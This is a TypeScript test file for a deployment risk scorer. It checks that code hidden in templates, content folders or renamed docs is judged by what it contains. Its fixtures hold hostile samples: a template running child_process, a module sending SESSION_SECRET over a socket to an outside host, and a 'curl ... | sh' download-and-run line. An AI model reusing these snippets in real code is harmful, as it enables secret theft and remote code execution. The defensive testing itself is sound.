// Attack: risk by path, not by content (issue 11, item 9). An author hides code where the path rules say
// "inert" (templates, content, docs, tests) and expects the change to score low and deploy unreviewed.
// Every file inside a service's build context must be judged by what it contains; only files outside every
// build context may take the fast path. Driven through the built CLI: `airlock risk --json`. Needs git only.
import { join } from 'node:path';
import type { RiskAssessment } from '../../../model/risk';
import { TempRepo } from '../../support/git-repo';
import { airlock } from '../../support/cli';

/** A repository with one service under services/web (build context: the service directory) and docs at the top. */
const BASE_FILES: Record<string, string> = {
  'README.md': '# shop\n\nThe shop monorepo. Services live under services/.\n',
  'docs/runbook.md': '# Runbook\n\nRestart the web service with `airlock rollback`.\n',
  'services/web/airlock.yaml': `service: web
build:
  dockerfile: Dockerfile
  context: .
run:
  port: 8080
  health: /healthz
environments:
  production:
    routerPort: 18099
`,
  'services/web/Dockerfile': 'FROM node:20-slim\nWORKDIR /app\nCOPY . .\nUSER node\nCMD ["node", "src/server.js"]\n',
  'services/web/.dockerignore': 'node_modules\ndrafts\n',
  'services/web/src/server.js': `const express = require('express');
const app = express();
app.set('view engine', 'ejs');
app.get('/healthz', (req, res) => res.send('ok'));
app.get('/', (req, res) => res.render('index', { title: 'shop' }));
app.listen(8080);
`,
  'services/web/views/index.ejs': '<h1><%= title %></h1>\n',
  'services/web/drafts/notes.md': '# Drafts\n',
  'config/deploy-policy.yaml': 'version: 1\nrisk:\n  thresholds: { medium: 25, high: 60 }\n',
};

let repo: TempRepo;
let base: string;

beforeAll(() => {
  repo = TempRepo.create('airlock-attack-risk-');
  base = repo.commit('shop: web service', BASE_FILES);
});
afterAll(() => repo?.remove());

/** Commits `files` on top of `from` and scores from..head through the CLI. */
function risk(files: Record<string, string | null>, opts: { from?: string; policy?: string } = {}): { head: string; assessment: RiskAssessment } {
  repo.at(opts.from ?? base);
  const head = repo.commit('change', files);
  const r = airlock(['risk', '--repo', repo.dir, '--base', opts.from ?? base, '--head', head, '--json', ...(opts.policy ? ['--policy', opts.policy] : [])]);
  if (r.code !== 0) throw new Error(`airlock risk exited ${r.code}: ${r.stderr}`);
  return { head, assessment: JSON.parse(r.stdout) as RiskAssessment };
}

const explain = (a: RiskAssessment): string => [`${a.level} ${a.score}`, ...a.signals.map((s) => `  ${s.kind} ${s.weight}: ${s.reason}`)].join('\n');
const signal = (a: RiskAssessment, kind: string) => a.signals.find((s) => s.kind === kind);

test('(a) a template that runs child_process inside the service is not low', () => {
  const { assessment } = risk({
    'services/web/views/login.ejs': `<form method="post" action="/login">
  <input name="user"> <input name="password" type="password">
</form>
<% const who = require('child_process').execSync('id').toString() %>
`,
  });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  expect(signal(assessment, 'command-execution')?.reason).toContain("services/web/views/login.ejs (added line 4: <% const who = require('child_process')");
  expect(signal(assessment, 'code')?.files).toContain('services/web/views/login.ejs');
});

test('(b) code under src/content/ that reads a secret and opens a socket is judged by content', () => {
  const { assessment } = risk({
    'services/web/src/content/footer.js': `const net = require('net');

module.exports = function footer() {
  const relay = net.connect(4444, 'relay.cdn-edge.net');
  relay.write(String(process.env.SESSION_SECRET));
  return '<footer>shop</footer>';
};
`,
  });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  expect(signal(assessment, 'secrets')?.files).toEqual(['services/web/src/content/footer.js']);
  expect(signal(assessment, 'network')?.reason).toContain('new raw sockets client');
  expect(signal(assessment, 'content')).toBeUndefined();
});

test('(c) a new fetch() posting email, name and address to a new outside host is high', () => {
  const { assessment } = risk({
    'services/web/src/content/newsletter.js': `module.exports = async function subscribe(user) {
  await fetch('https://api.mailfunnel.io/v2/contacts', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: user.email, name: user.name, address: user.address }),
  });
};
`,
  });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  const integration = signal(assessment, 'external-integration');
  expect(integration?.reason).toContain('personal data (email, name, address) sent to outside host api.mailfunnel.io');
});

test('(d) a docs change outside the build context stays low, whatever it mentions', () => {
  const { assessment } = risk({
    'docs/runbook.md': `${BASE_FILES['docs/runbook.md']}
## Credentials

Rotate the session secret and the OAuth client password, then check https://hooks.partner-payments.net/status.
Never disable csrf. \`require('child_process')\` is not used by the service.
`,
  });
  expect({ level: assessment.level, score: assessment.score, kinds: assessment.signals.map((s) => s.kind) }).toEqual({ level: 'low', score: 0, kinds: ['docs'] });
});

test('(e) code moved into the build context by a pure rename is judged by content', () => {
  // First an inert-looking file outside every build context (low, by design), then a rename into the service.
  const parked = repo.at(base).commit('docs: example', {
    'docs/examples/plugin.js': "module.exports = () => require('child_process').execSync('curl -s https://dl.evil.example.net/x | sh');\n",
  });
  repo.at(parked);
  repo.write({ 'services/web/src/plugins/plugin.js': repo.read('docs/examples/plugin.js'), 'docs/examples/plugin.js': null });
  const { assessment } = risk({}, { from: parked });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  expect(signal(assessment, 'command-execution')?.files).toEqual(['services/web/src/plugins/plugin.js']);
});

test('(f) a change to the policy file at a custom path is a gate change', () => {
  const weakened = 'version: 1\nrisk:\n  weights: { secrets: 0, code: 0 }\n';
  const { assessment } = risk({ 'config/deploy-policy.yaml': weakened }, { policy: join(repo.dir, 'config/deploy-policy.yaml') });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  expect(signal(assessment, 'airlock-config')?.files).toEqual(['config/deploy-policy.yaml']);
});

test('(g) widening the build context through .dockerignore is a gate change', () => {
  // drafts/ was outside the build context; dropping it from .dockerignore ships files no diff shows.
  const { assessment } = risk({ 'services/web/.dockerignore': 'node_modules\n' });
  expect({ level: assessment.level, why: explain(assessment) }).toMatchObject({ level: 'high' });
  expect(signal(assessment, 'airlock-config')?.files).toEqual(['services/web/.dockerignore']);
});
